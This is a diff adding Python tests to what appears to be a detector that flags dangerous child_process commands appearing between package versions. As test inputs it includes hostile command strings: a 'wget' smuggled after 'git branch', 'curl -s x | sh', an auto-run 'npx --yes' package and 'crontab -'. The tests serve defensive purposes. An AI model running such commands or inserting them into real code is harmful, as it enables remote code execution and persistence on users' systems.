@@ -87,6 +87,32 @@ def test_a_member_that_turns_a_check_off() -> None:
     assert (finding.severity, "turns off a check" in finding.message) == ("high", True)
 
 
+def starting(command: str) -> Any:
+    return use("builtin:child_process.exec", "process", literals=[command])
+
+
+def test_a_command_that_downloads_where_others_were_started() -> None:
+    plain, loud = starting("git branch"), starting("git branch; wget -q $X")
+    (finding,) = judged([plain], [loud])
+    assert (finding.severity, "downloads" in finding.message) == ("high", True)
+    (finding,) = judged([plain], [loud], step="minor")
+    assert finding.severity == "moderate"
+    (finding,) = judged([loud], [starting("curl -s x | sh")])
+    assert finding.severity == "high"
+    assert judged([loud], [starting("curl -fsSL x")]) == ()
+
+
+def test_a_package_that_is_fetched_and_run() -> None:
+    run = use("builtin:child_process.spawn", "process", literals=["npx", "--yes", "pre-x@latest"])
+    (finding,) = judged([starting("ls")], [run])
+    assert (finding.severity, "npx --yes" in finding.message) == ("high", True)
+
+
+def test_a_breaking_release_has_no_reason_either() -> None:
+    (finding,) = judged([starting("ls")], [starting("crontab -")], step="major")
+    assert finding.severity == "high"
+
+
 def test_the_search_path_of_the_process() -> None:
     place = "index.js:4:1:process.env.PATH = tmp + process.env.PATH"
     (finding,) = judged([], [use("global:process.env.PATH", "environment", place)])
